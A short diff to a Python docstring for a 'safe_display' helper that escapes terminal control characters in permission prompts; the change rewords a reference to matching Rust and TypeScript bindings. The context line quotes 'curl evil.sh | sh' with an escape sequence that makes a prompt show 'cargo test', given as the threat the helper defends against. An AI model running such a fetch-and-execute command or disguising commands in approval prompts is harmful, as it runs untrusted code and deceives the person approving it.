@@ -5,8 +5,8 @@ lossless model, wrong for a permission prompt, where ``curl evil.sh | sh\\x1b[2K
 would show ``cargo test``. ``safe_display`` turns every character that could control a
 terminal, reorder the text, break the line or hide between visible characters into a visible
 escape. Nothing is removed, every other character is kept, and the output is the same as
-Rust's ``acp_terminal::safe_display`` and TypeScript's ``safeDisplay`` (the list of escaped
-characters is in docs/TRANSCRIPT.md, "Safe display strings").
+the Rust binding's ``safe_display`` and the TypeScript binding's ``safeDisplay`` (the
+escaped characters are the one list the three bindings share, below).
 """
 
 from __future__ import annotations
